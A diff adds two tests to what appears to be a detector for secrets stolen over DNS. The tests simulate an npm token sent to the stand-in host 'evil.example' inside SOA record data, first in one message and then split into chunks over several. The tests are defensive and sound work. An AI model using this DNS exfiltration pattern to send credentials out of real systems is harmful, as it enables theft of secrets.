@@ -184,6 +184,25 @@ def test_a_value_in_the_labels_of_one_name_is_found():
     assert (event.object, event.flags) == (f"dns://{name}", {"carries_identity"})
 
 
+def test_a_value_in_what_a_message_for_a_name_holds_besides_is_found():
+    gateway = Gateway().ready()
+    gateway.dns(101.0, "evil.example", "SOA", b"\x04note\xc0\x0c" + TOKEN.value)
+    result = close(gateway, traced(Action.SEND, "udp://240.0.0.9:53", 1.0))
+    assert thefts(result) == [("npm_token", (), "message")]
+    (event,) = result.events
+    assert (event.object, event.flags) == ("dns://evil.example", {"carries_credential"})
+
+
+def test_a_value_spread_over_what_several_messages_hold_is_found():
+    gateway, events = Gateway().ready(), []
+    for number in range(0, len(TOKEN.value), 10):
+        gateway.dns(101 + number / 100, "evil.example", "SOA", TOKEN.value[number : number + 10])
+        events.append(traced(Action.DNS, "evil.example", 1 + number / 100, image=10 + number))
+    result = close(gateway, *events)
+    assert [one[:1] for one in thefts(result)] == [("npm_token",)]
+    assert result.thefts[EVIL][0].requests > 1
+
+
 def spread(token: bytes, size: int) -> list[str]:
     text = base64.b32encode(token).decode().rstrip("=").lower()
     return [text[at : at + size] for at in range(0, len(text), size)]
